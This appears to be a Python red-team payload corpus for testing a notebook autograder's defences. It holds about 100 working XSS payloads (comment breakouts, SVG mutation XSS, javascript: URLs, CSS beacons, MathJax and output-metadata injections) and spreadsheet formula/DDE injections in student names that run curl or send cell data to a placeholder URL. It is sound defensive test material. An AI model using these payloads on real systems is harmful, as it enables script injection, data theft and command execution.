"""Hostile content written apart, by a red team, from the issue alone.

These payloads were written without reading the course's defence (autograder/display,
autograder/formgrader) or the other corpus (corpus.py): only payloads.py (the format), the
test's hostile.py and test_hostile_content.py (where payloads are put), and nbconvert's,
mistune's, MathJax's and nbgrader's own sources were read.

How each one was shown to be live (scratch harness, not part of the suite): every payload
with ``markdown``/``output``/``cell`` was put in a notebook (a written answer, a markdown or
raw cell of its own, a code cell displaying the bundle), filled with :func:`payloads.fill` as
the test does, converted by nbconvert 7.17's plain ``HTMLExporter`` (classic template,
``sanitize_html`` off; also the lab template) and opened from disk in headless Chromium
(Playwright), recording dialogs, console messages, popups and requests carrying the mark;
``click`` payloads had the content's links, summaries and buttons clicked. Plain nbconvert
loads MathJax 2 from a CDN (offline: not at all), so the same pages were opened again with
MathJax 3.2.2 (``es5/tex-chtml-full.js`` of the ``mathjax`` package) put in its place, with
no configuration but ``tex.inlineMath`` set to ``$...$`` (no ``ui/safe``). Ids and names were
checked by inserting them raw into the HTML, attribute and script-string contexts nbgrader's
own formgrader templates give them, and as the first cell of a CSV row.

Each payload's comment says what it does and where it fired ("nbconvert" = plain classic
template; "MJ3" = with MathJax 3 as above; "raw" = inserted into HTML unescaped). Those
marked "not shown" never fired in plain nbconvert 7.17 and are kept for another surface, named
in the comment.
"""

from __future__ import annotations

from .payloads import Payload, html

TAB, CR, NUL = "\t", "\r", "\x00"


def _bundle(mime: str, value, metadata: dict | None = None) -> dict:
    """A display bundle of ``value`` as ``mime`` (with a plain-text fallback)."""
    return {"data": {mime: value, "text/plain": "<output>"}, "metadata": metadata or {}}


RED_TEAM = [
    # ---- raw-text elements closed from inside a comment (the browser sees no comment) ----
    # <noscript> is raw text when scripting is on: its </noscript> ends it. nbconvert: fired.
    Payload("rt-noscript-comment-close",
            markdown="<noscript><!--</noscript><img src=x onerror={js}>--></noscript>"),
    # <textarea> is RCDATA: "<!--" is text, </textarea> closes, <img> runs. nbconvert: fired.
    Payload("rt-textarea-comment-close",
            markdown="<textarea><!--</textarea><img src=x onerror={js}>--></textarea>"),
    # <title> in the body is RCDATA too. nbconvert: fired.
    Payload("rt-title-comment-close",
            markdown="<title><!--</title><img src=x onerror={js}>--></title>"),
    # <xmp> is raw text; a parser that sees a comment keeps <img> inside it. nbconvert: fired.
    Payload("rt-xmp-comment-close",
            markdown="<xmp><!--</xmp><img src=x onerror={js}>--></xmp>"),
    # <noembed> is raw text in browsers, markup in most sanitisers. nbconvert: fired.
    Payload("rt-noembed-comment-close",
            markdown="<noembed><!--</noembed><img src=x onerror={js}>--></noembed>"),
    # </textarea> inside an attribute closes the RCDATA element. Not shown in nbconvert 7.17
    # (its BeautifulSoup pass re-escapes the attribute); raw (mistune's HTML as is): fired.
    Payload("rt-textarea-attr-close",
            markdown='<textarea><p title="</textarea><img src=x onerror={js}>"></textarea>'),
    # ---- comments, CDATA, processing instructions ----
    # "<!-->" is a whole (empty) comment in HTML5; regex/XML parsers read on to "-->".
    # nbconvert: fired.
    Payload("rt-comment-empty", markdown="<!--><img src=x onerror={js}>-->"),
    # "--!>" also ends a comment in HTML5. nbconvert: fired.
    Payload("rt-comment-bang-close", markdown="<!-- x --!><img src=x onerror={js}> -->"),
    # <![CDATA[ outside foreign content is a bogus comment ending at the first ">".
    # nbconvert: fired.
    Payload("rt-cdata-in-html",
            markdown="<div><![CDATA[><img src=x onerror={js}>]]></div>"),
    # "<?...>" is a bogus comment ending at the first ">" (markdown reads on to "?>").
    # nbconvert: fired.
    Payload("rt-pi-bogus-comment", markdown="<?x ><img src=x onerror={js}> ?>"),
    # ---- mutation XSS through foreign content ----
    # In <svg>, <style> holds markup, and <img> breaks out of SVG into HTML. nbconvert: fired.
    Payload("rt-svg-style-breakout",
            markdown="<svg><style><img src=x onerror={js}></style></svg>"),
    # The same through <math>. nbconvert: fired.
    Payload("rt-math-style-breakout",
            markdown="<math><style><img src=x onerror={js}></style></math>"),
    # </p> in <svg> leaves foreign content: <style> turns HTML and ends inside the attribute.
    # nbconvert: fired.
    Payload("rt-svg-p-style-mxss",
            markdown='<svg></p><style><a id="</style><img src=x onerror={js}>"></a></style>'
                     "</svg>"),
    # An SVG <script> whose body is CDATA (an XML-minded filter sees only text).
    # nbconvert: fired.
    Payload("rt-svg-cdata-script",
            markdown="<svg><script><![CDATA[{js}]]></script></svg>"),
    # An SVG <script> taking its code from href. nbconvert: fired.
    Payload("rt-svg-script-href",
            markdown='<svg><script href="data:text/javascript,{js}"></script></svg>'),
    # A declarative shadow root: <template> content that is live, not inert. nbconvert: fired.
    Payload("rt-declarative-shadow",
            markdown="<div><template shadowrootmode=open><img src=x onerror={js}></template>"
                     "</div>"),
    # A second <body> tag lends its attributes (onload) to the page's body. nbconvert: fired
    # (once per page: the first one wins).
    Payload("rt-body-attr-merge", markdown="<body onload={js}>"),
    # An unclosed tag (a markdown HTML block needs no ">"): the next "<p>" closes it (and the
    # paragraph after it is its own sacrifice, so later payloads survive). nbconvert: fired.
    Payload("rt-unclosed-details-block", markdown="<details open ontoggle={js}\n\nend>"),
    # A NUL byte inside the tag (browsers make it U+FFFD in the value; C parsers stop).
    # nbconvert: fired.
    Payload("rt-nul-in-tag", markdown="<img src=x" + NUL + " onerror={js}>"),
    # The handler written only with character references. nbconvert: fired.
    Payload("rt-entity-handler", markdown='<img src=x onerror="{entities}">'),
    # Mixed-case tag and attribute names. nbconvert: fired.
    Payload("rt-mixed-case-tags", markdown="<ImG sRc=x OnErRoR={js}>"),
    # ---- javascript: and data: URLs in disguise ----
    # javascript: in mixed case, a tab and a newline inside, ":" as &colon;. nbconvert: fired
    # (click).
    Payload("rt-js-url-tab-newline", click=True,
            markdown='<a href="JaV&#x09;aS&#x0A;cRiPt&colon;{js}">read more</a>'),
    # Leading space and C0 controls, stripped by the URL parser. nbconvert: fired (click).
    Payload("rt-js-url-leading-control", click=True,
            markdown='<a href=" &#x01;&#x1F;javascript:{js}">read more</a>'),
    # "javascript://" looks like a URL with a host; %0A ends the // comment. nbconvert: fired
    # (click).
    Payload("rt-js-url-comment-newline", click=True,
            markdown='<a href="javascript://%0A{js}">read more</a>'),
    # An iframe whose src is javascript:, run on load. nbconvert: fired.
    Payload("rt-iframe-js-src", markdown='<iframe src="javascript:{js}"></iframe>'),
    # srcdoc written with entities only (no "<" in the attribute). nbconvert: fired.
    Payload("rt-iframe-srcdoc-entities",
            markdown='<iframe srcdoc="&lt;img src=x onerror={js}&gt;"></iframe>'),
    # <object> with an HTML data: URL. nbconvert: fired (dialog).
    Payload("rt-object-data-html",
            markdown='<object data="data:text/html;base64,{b64html}"></object>'),
    # <embed> with an HTML data: URL. nbconvert: fired (dialog).
    Payload("rt-embed-data-html",
            markdown='<embed src="data:text/html;base64,{b64html}">'),
    # ---- SVG ----
    # <use> pointing at an external document. nbconvert: fired (request).
    Payload("rt-svg-use-href", markdown='<svg><use href="{url}#a"/></svg>'),
    # An SVG link (xlink:href) to javascript:. nbconvert: fired (click).
    Payload("rt-svg-a-xlink", click=True,
            markdown='<svg width=120 height=30><a xlink:href="javascript:{js}">'
                     "<text x=5 y=20>figure 1</text></a></svg>"),
    # <animate> gives an href-less SVG link a javascript: href. nbconvert: fired (click).
    Payload("rt-svg-animate-href", click=True,
            markdown="<svg width=120 height=30><a><animate attributeName=href "
                     "values=javascript:{js} /><text x=5 y=20>figure 2</text></a></svg>"),
    # HTML inside <foreignObject>. nbconvert: fired.
    Payload("rt-svg-foreignobject",
            markdown="<svg><foreignObject width=10 height=10><img src=x onerror={js}>"
                     "</foreignObject></svg>"),
    # SMIL's onbegin event (rarely on sanitiser lists). nbconvert: fired.
    Payload("rt-svg-animate-onbegin",
            markdown="<svg><animate onbegin={js} attributeName=x dur=1s /></svg>"),
    # An SVG <image>. nbconvert: fired (request).
    Payload("rt-svg-image-href", markdown='<svg><image href="{url}" /></svg>'),
    # A filter's <feImage>. nbconvert: fired (request).
    Payload("rt-svg-feimage",
            markdown='<svg width=9 height=9><filter id=rtf><feImage href="{url}"/></filter>'
                     '<rect width=9 height=9 filter="url(#rtf)"/></svg>'),
    # @import inside an SVG <style> (a markdown HTML block, so not autolinked).
    # nbconvert: fired (request).
    Payload("rt-svg-style-import",
            markdown="<svg>\n<style>@import url({url});</style>\n</svg>"),
    # ---- CSS ----
    # @import in a <style> element. nbconvert: fired (request).
    Payload("rt-css-import", markdown="<style>@import url({url});</style>"),
    # @font-face src, loaded when the font is used. nbconvert: fired (request).
    Payload("rt-css-font-face",
            markdown="<style>@font-face{font-family:rtff;src:url({url})}"
                     ".rtff{font-family:rtff}</style><span class=rtff>text</span>"),
    # image-set() in an inline style. nbconvert: fired (request).
    Payload("rt-css-image-set",
            markdown='<div style="background-image:image-set(url({url}) 1x)">x</div>'),
    # content:url() on a pseudo-element. nbconvert: fired (request; the last rule wins).
    Payload("rt-css-content-url",
            markdown="<style>.rtcu::before{content:url({url})}</style><span class=rtcu></span>"),
    # content:url() on an element itself. nbconvert: fired (request).
    Payload("rt-css-content-inline", markdown='<div style="content:url({url})">x</div>'),
    # "url" written with a CSS escape (u\72 l), still a URL token. nbconvert: fired (request).
    Payload("rt-css-escaped-url",
            markdown=r'<div style="background:u\72 l({url})">x</div>'),
    # ---- elements that fetch or navigate ----
    # <meta http-equiv=refresh> in the body navigates the page. nbconvert: fired (request).
    Payload("rt-meta-refresh", markdown='<meta http-equiv="refresh" content="0;url={url}">'),
    # <base> re-roots every later relative URL of the page. nbconvert: fired (request; once
    # per page).
    Payload("rt-base-href", markdown='<base href="{url}/"><img src=figure.png alt=figure>'),
    # A form posting the page elsewhere. nbconvert: fired (click: navigation).
    Payload("rt-form-action", click=True,
            markdown='<form action="{url}"><button>Check answer</button></form>'),
    # formaction=javascript: on a submit input. nbconvert: fired (click).
    Payload("rt-formaction-js", click=True,
            markdown='<form><input type=submit formaction="javascript:{js}" value=Check>'
                     "</form>"),
    # <a ping>: a harmless-looking in-page link that reports the click. nbconvert: fired (click).
    Payload("rt-a-ping", click=True, markdown='<a href="#rt" ping="{url}">details</a>'),
    # A link opening a new window (with opener). nbconvert: fired (click: the popup requests
    # the URL; seen on the browser context, not on the page).
    Payload("rt-a-target-blank", click=True,
            markdown='<a href="{url}" target=_blank rel=opener>dataset</a>'),
    # A popover's beforetoggle event, on a button the grader clicks. nbconvert: fired (click).
    Payload("rt-popover-beforetoggle", click=True,
            markdown="<button popovertarget=rtpop>hint</button>"
                     "<div popover id=rtpop onbeforetoggle={js}>x</div>"),
    # <link rel=stylesheet> in the body. nbconvert: fired (request).
    Payload("rt-link-stylesheet", markdown='<link rel=stylesheet href="{url}">'),
    # <link rel=prefetch>. nbconvert: fired (request).
    Payload("rt-link-prefetch", markdown='<link rel=prefetch href="{url}">'),
    # <link rel=modulepreload>. nbconvert: fired (request).
    Payload("rt-link-modulepreload", markdown='<link rel=modulepreload href="{url}">'),
    # srcset alone (no src). nbconvert: fired (request).
    Payload("rt-img-srcset", markdown='<img srcset="{url} 1x" alt=figure>'),
    # <picture><source srcset>. nbconvert: fired (request).
    Payload("rt-picture-source",
            markdown='<picture><source srcset="{url}"><img alt=figure></picture>'),
    # <video poster>. nbconvert: fired (request).
    Payload("rt-video-poster", markdown='<video poster="{url}"></video>'),
    # <track src> of a video without a source. nbconvert: fired (request).
    Payload("rt-video-track", markdown='<video><track default src="{url}"></video>'),
    # onerror on a <source> (not on the media element). nbconvert: fired.
    Payload("rt-video-source-onerror",
            markdown="<video><source src=x onerror={js}></video>"),
    # <input type=image>. nbconvert: fired (request).
    Payload("rt-input-image", markdown='<input type=image src="{url}" alt=go>'),
    # The legacy background attribute of <table>. nbconvert: fired (request).
    Payload("rt-table-background",
            markdown='<table background="{url}"><tr><td>x</td></tr></table>'),
    # <iframe src>. nbconvert: fired (request).
    Payload("rt-iframe-url", markdown='<iframe src="{url}"></iframe>'),
    # ---- markdown ----
    # A CommonMark autolink with a javascript: scheme. nbconvert: fired (click).
    Payload("rt-md-autolink-js", click=True, markdown="<javascript:{js}>"),
    # A reference-style link whose definition is javascript:. nbconvert: fired (click).
    Payload("rt-md-reference-link", click=True,
            markdown="See [the proof][rtref].\n\n[rtref]: javascript:{js}"),
    # A link destination with an entity (&#106; = j), decoded by markdown. nbconvert: fired
    # (click).
    Payload("rt-md-entity-dest", click=True, markdown="[proof](&#106;avascript:{js})"),
    # A markdown image of an outside URL. nbconvert: fired (request).
    Payload("rt-md-image-beacon", markdown="![figure]({url})"),
    # A reference-style image. nbconvert: fired (request).
    Payload("rt-md-image-reference", markdown="![figure][rtimg]\n\n[rtimg]: {url}"),
    # Raw HTML inside a link's text. nbconvert: fired.
    Payload("rt-md-html-in-link-text", markdown="[<img src=x onerror={js}>](#rt)"),
    # A ```mermaid fence: nbconvert copies its body into <pre> unescaped. nbconvert: fired.
    Payload("rt-md-mermaid-fence",
            markdown="```mermaid\n</pre><img src=x onerror={js}><pre>\n```"),
    # A bare URL, autolinked. nbconvert: fired (click: navigation).
    Payload("rt-md-bare-url", click=True, markdown="Source: {url}"),
    # ---- MathJax (not shown in nbconvert: its MathJax 2 comes from a CDN) ----
    # \href to javascript: becomes a link in the typeset formula. MJ3: fired (click).
    Payload("rt-mj-href-js", click=True, markdown=r"$\href{javascript:{js}}{\text{proof}}$"),
    # \style with a background image. MJ3: fired (request).
    Payload("rt-mj-style-url", markdown=r"$\style{background-image:url({url})}{x}$"),
    # \bbox's options are copied into a style. MJ3: fired (request).
    Payload("rt-mj-bbox-url", markdown=r"$\bbox[2px,background-image:url({url})]{y}$"),
    # \mmlToken may set href on a token. MJ3: fired (click).
    Payload("rt-mj-mmltoken-href", click=True,
            markdown=r'$\mmlToken{mi}[href="javascript:{js}"]{z}$'),
    # \class and \cssId around \href to an outside page. MJ3: fired (click: navigation).
    Payload("rt-mj-class-href-url", click=True,
            markdown=r"$\class{rt}{\cssId{rt-id}{\href{{url}}{w}}}$"),
    # \unicode's font name is pasted into a style: CSS injection. MJ3: fired (request).
    Payload("rt-mj-unicode", markdown=r"$\unicode[serif;background:url({url})]{x41}$"),
    # ---- outputs ----
    # text/html with isolated metadata: nbconvert makes a data: iframe, whose script runs.
    # nbconvert: fired (dialog).
    Payload("rt-out-isolated-iframe",
            output=_bundle("text/html", "<script>{js}</script>",
                           {"text/html": {"isolated": True}})),
    # application/javascript: nbconvert's wrapper calls jQuery's $ first (offline: missing);
    # a hoisted function $ keeps it from throwing (and gives jQuery back). nbconvert: fired.
    Payload("rt-out-js-hoisted",
            output=_bundle("application/javascript",
                           "function $(s){return window.jQuery?jQuery(s):s}\n{js}\n"
                           "if(window.jQuery){window.$=window.jQuery}")),
    # A <script> whose code is a data: URL. nbconvert: fired.
    Payload("rt-out-script-data-src",
            output=html('<script src="data:text/javascript,{js}"></script>')),
    # text/html as a list of lines that split the tag (joined only when read).
    # nbconvert: fired.
    Payload("rt-out-html-split-list",
            output=_bundle("text/html", ["<img src=x on", "error={js}>"])),
    # text/markdown with raw HTML (SVG onbegin). nbconvert: fired.
    Payload("rt-out-markdown-html",
            output=_bundle("text/markdown",
                           "**done** <svg><animate onbegin={js} attributeName=x dur=1s /></svg>")),
    # text/markdown holding a ```mermaid fence (copied unescaped). nbconvert: fired.
    Payload("rt-out-markdown-mermaid",
            output=_bundle("text/markdown", "```mermaid\n</pre><img src=x onerror={js}>\n```")),
    # An image's width metadata is put in an unquoted attribute: it adds onload.
    # nbconvert: fired.
    Payload("rt-out-png-width",
            output=_bundle("image/png", "{png}", {"image/png": {"width": "1 onload={js}"}})),
    # Top-level height metadata adds onerror; the JPEG data is not base64, so it errs.
    # nbconvert: fired.
    Payload("rt-out-jpeg-height-nonb64",
            output=_bundle("image/jpeg", "not base64", {"height": "1 onerror={js}"})),
    # metadata.filenames becomes the image's src: an outside URL. nbconvert: fired (request).
    Payload("rt-out-png-filenames",
            output=_bundle("image/png", "{png}", {"filenames": {"image/png": "{url}"}})),
    # text/latex is escaped, then typeset: a MathJax \style request. MJ3: fired (request).
    Payload("rt-out-latex-mathjax",
            output=_bundle("text/latex", r"$$\style{background-image:url({url})}{x}$$")),
    # text/vnd.mermaid copied unescaped into <pre>. Lab template: fired; classic: not shown
    # (it renders nothing for this MIME type).
    Payload("rt-out-mermaid",
            output=_bundle("text/vnd.mermaid", "</pre><img src=x onerror={js}><pre>")),
    # A widget view with no widget state: nbconvert falls back to the bundle's text/html.
    # nbconvert: fired.
    Payload("rt-out-widget-view",
            output={"data": {"application/vnd.jupyter.widget-view+json":
                             {"model_id": "<img src=x onerror={js}>", "version_major": 2,
                              "version_minor": 0},
                             "text/html": "<img src=x onerror={js}>", "text/plain": "x"},
                    "metadata": {}}),
    # A widget-state bundle as an output: not rendered, its text/html is. nbconvert: fired
    # (request).
    Payload("rt-out-widget-state",
            output={"data": {"application/vnd.jupyter.widget-state+json":
                             {"state": {}, "version_major": 2, "version_minor": 0},
                             "text/html": '<img src="{url}" alt=w>', "text/plain": "x"},
                    "metadata": {}}),
    # image/svg+xml with onload and an outside image. Not shown: nbconvert shows SVG outputs
    # as a data: <img> (inert); aimed at a renderer that inlines SVG outputs.
    Payload("rt-out-svg-script",
            output=_bundle("image/svg+xml", '<svg xmlns="http://www.w3.org/2000/svg" '
                                            'onload="{js}"><image href="{url}"/></svg>')),
    # ---- cell level ----
    # A cell tag that leaves the class attribute (no comma, as nbformat wants). Not shown:
    # nbconvert escapes tags; raw (class="... celltag_<tag>"): fired (autofocus).
    Payload("rt-cell-tag-breakout", markdown="Tagged answer.",
            cell={"metadata": {"tags": ['x"autofocus/tabindex="0"onfocus="{js}"x="']}}),
    # An attachment whose MIME key leaves the data: URL's attribute. Not shown: nbconvert
    # escapes it; raw (<img src="data:{mime};base64,...">): fired.
    Payload("rt-cell-attachment-mime", markdown="![figure](attachment:rt-fig.png)",
            cell={"attachments": {"rt-fig.png": {'image/png" onerror="{js}': "x"}}}),
    # A raw cell claiming text/html (and the same text in the written answer, as markdown).
    # nbconvert: fired in the answer; the raw cell itself is bleached by nbconvert.
    Payload("rt-raw-cell-html", markdown="<details open ontoggle={js}></details>",
            cell={"raw": True, "metadata": {"raw_mimetype": "text/html"}}),
    # ---- student ids (a folder name: no "/") ----
    # Markup as an id, for pages that print it raw (nbgrader's breadcrumbs do). Raw: fired.
    Payload("rt-id-img", ident="<img src=x onerror={js}>"),
    # Leaves a double-quoted attribute (nbgrader's data-link="submitted/<id>/...").
    # Raw: fired (autofocus).
    Payload("rt-id-attr-break", ident='x" autofocus tabindex=0 onfocus={js} y="'),
    # Leaves a JS string (nbgrader's var student_id = "<id>";). Raw: fired.
    Payload("rt-id-js-string", ident='";{js};"'),
    # A formula (valid: "=" then a concatenation) that is also markup. Spreadsheet formula;
    # raw: fired.
    Payload("rt-id-formula-concat", ident='=1+1&"<img src=x onerror={js}>"'),
    # "@" then DDE (cmd|'...'!A0). Spreadsheet formula; raw: fired.
    Payload("rt-id-dde-at", ident="@SUM(1+1)*cmd|' -c calc'!A0<svg onload={js}>"),
    # A tab before "+": trimmed by some importers, then a formula. Raw: fired.
    Payload("rt-id-tab-plus", ident=TAB + "+1+1<svg onload={js}>"),
    # ---- student names (in the gradebook; "/" allowed) ----
    # HYPERLINK sending a neighbouring cell away when clicked. Spreadsheet formula.
    Payload("rt-name-hyperlink", name='=HYPERLINK("{url}?"&A2,"Click for details")'),
    # "+" then IMPORTXML: Google Sheets fetches the URL on open. Spreadsheet formula.
    Payload("rt-name-importxml", name='+IMPORTXML(CONCAT("{url}?",B2),"//a")'),
    # "-" then DDE running curl. Spreadsheet formula.
    Payload("rt-name-dde", name="-2+3+cmd|' /C curl {url}'!A0"),
    # A carriage return before "=": a new line/cell to some CSV readers, then a formula.
    Payload("rt-name-cr-webservice", name=CR + '=WEBSERVICE("{url}")'),
    # A fullwidth equals sign: NFKC turns it into "=". Not shown (no spreadsheet here reads
    # it as a formula); aimed at exports or imports that normalise Unicode first.
    Payload("rt-name-fullwidth", name='＝HYPERLINK("{url}","x")'),
    # Ends a <script> the name is embedded in, then markup (nbgrader's formgrade prints the
    # name raw). Raw: fired.
    Payload("rt-name-script-close", name="</script><svg onload={js}>"),
]
